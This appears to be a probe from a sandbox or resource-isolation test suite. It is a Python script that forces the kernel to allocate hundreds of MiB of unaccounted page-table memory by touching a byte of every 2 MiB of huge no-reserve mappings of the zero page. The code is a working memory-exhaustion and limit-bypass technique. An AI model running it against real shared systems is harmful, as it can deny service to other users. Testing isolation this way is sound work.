"""Makes the kernel hold page tables, by reading a byte of every 2 MiB of a huge mapping of the page of zeros.

Such pages count as nobody's, but each needs a table of 4 KiB in the kernel. It keeps what it got for half a second:
without a memory cgroup, the promise is only that nothing lasts from one look to the next, 0.3 s at most.
"""

SUCCESS = "hundreds of MiB of kernel memory beyond the limit"
PROOF = "stopped"

# %%
import mmap
import os
import time


def tables():
    return int(next(line for line in open("/proc/self/status") if line.startswith("VmPTE")).split()[1]) >> 10


kept, before, began = [], tables(), time.monotonic()
try:
    while tables() - before < 384 and time.monotonic() - began < 2:
        size = 16 << 30
        pages = mmap.mmap(-1, size, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
        kept.append(pages)
        pages.madvise(mmap.MADV_NOHUGEPAGE)
        for start in range(0, size, 2 << 20):
            pages[start]
except OSError as error:
    print(error)
time.sleep(0.5)
held = tables() - before
print("SUCCEEDED:" if held > 192 else "only", held, "MiB of page tables")
print("attempted")
